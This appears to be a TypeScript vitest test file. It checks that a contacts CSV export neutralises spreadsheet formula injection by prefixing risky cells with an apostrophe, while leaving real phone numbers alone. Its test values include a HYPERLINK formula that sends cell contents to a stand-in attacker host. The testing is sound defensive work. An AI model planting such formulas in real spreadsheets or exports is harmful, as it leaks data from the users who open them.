import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, GOOGLE_CSV_HEADER, googleCsvRow } from '@/lib/export/contacts';
import type { VCardPerson } from '@/lib/people/vcard';

/*
 * A spreadsheet opening the contacts CSV runs a cell that starts with = + - @ (or a tab or carriage return before
 * one) as a formula: `=HYPERLINK(...)` in a person's notes, sent by whoever wrote them, would be live in the user's
 * spreadsheet. Every such cell is exported with a leading ', except a real phone number in the phone column.
 */

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const HEADER = GOOGLE_CSV_HEADER;

const person = (over: Partial<VCardPerson>): VCardPerson => ({
  id: 'x',
  name: 'Ana Cruz',
  displayName: '',
  role: null,
  organisation: null,
  sector: null,
  email: null,
  phone: null,
  links: [],
  notes: null,
  updatedAt: new Date(0),
  ...over,
});

/** The cells of one exported row, as a spreadsheet reads them (quotes undone, nothing trimmed). */
function cells(row: string): Record<string, string> {
  const [record] = parse(row, { relax_column_count: true }) as string[][];
  return Object.fromEntries(HEADER.map((h, i) => [h, record![i]!]));
}

/** Each column of the export that holds what the user typed, and a person whose value there is `v`. */
const columns: { column: string; fill: (v: string) => Partial<VCardPerson>; name?: true }[] = [
  { column: 'First Name', fill: (v) => ({ name: `${v} Cruz` }), name: true },
  { column: 'Last Name', fill: (v) => ({ name: `Ana ${v}` }), name: true },
  { column: 'Organization Name', fill: (v) => ({ organisation: { name: v } }) },
  { column: 'Organization Title', fill: (v) => ({ role: v }) },
  { column: 'Notes', fill: (v) => ({ notes: v }) },
  { column: 'E-mail 1 - Value', fill: (v) => ({ email: v }) },
  { column: 'Website 1 - Value', fill: (v) => ({ links: [v] }) },
  { column: 'Phone 1 - Value', fill: (v) => ({ phone: v }) },
];

describe('contacts CSV: formulas', () => {
  for (const { column, fill, name } of columns) {
    // A name is split at whitespace, so a tab or carriage return never starts a name's cell.
    for (const trigger of name ? TRIGGERS.filter((t) => t.trim()) : TRIGGERS) {
      it(`${column}: a value starting with ${JSON.stringify(trigger)} is text, not a formula`, () => {
        const value = `${trigger}HYPERLINK("https://evil.example/?"&A1,"Click")`;
        expect(cells(googleCsvRow(person(fill(value))))[column]).toBe(`'${value}`);
      });
    }
  }

  it('a phone number is left as it is in the phone column, and only there', () => {
    for (const phone of ['+44 7700 900123', '-0161 496 0000', '+1 (555) 010-9999']) {
      expect(cells(googleCsvRow(person({ phone })))['Phone 1 - Value']).toBe(phone);
      expect(cells(googleCsvRow(person({ notes: phone }))).Notes).toBe(`'${phone}`);
    }
    expect(csvField('0161 496 0000', 'phone')).toBe('0161 496 0000');
    expect(csvField('plain text')).toBe('plain text');
  });

  it('no cell of any value starts a formula, and the value is all there after the quote', () => {
    const value = fc.oneof(
      fc.string(),
      fc.tuple(fc.constantFrom(...TRIGGERS), fc.string()).map(([t, s]) => t + s),
    );
    fc.assert(
      fc.property(value, fc.constantFrom('phone' as const, 'text' as const), (v, column) => {
        const cell = (parse(csvField(v, column) + '\n') as string[][])[0]?.[0] ?? '';
        // The value comes back whole, a ' before it at most, and untouched when it starts no formula...
        expect([v, `'${v}`]).toContain(cell);
        if (!/^[=+\-@\t\r]/.test(v)) expect(cell).toBe(v);
        // ...and a cell that does start one holds a phone number, in the phone column.
        if (/^[=+\-@\t\r]/.test(cell)) expect(column === 'phone' && /^[0-9+()./\s-]+$/.test(cell)).toBe(true);
      }),
    );
  });
});
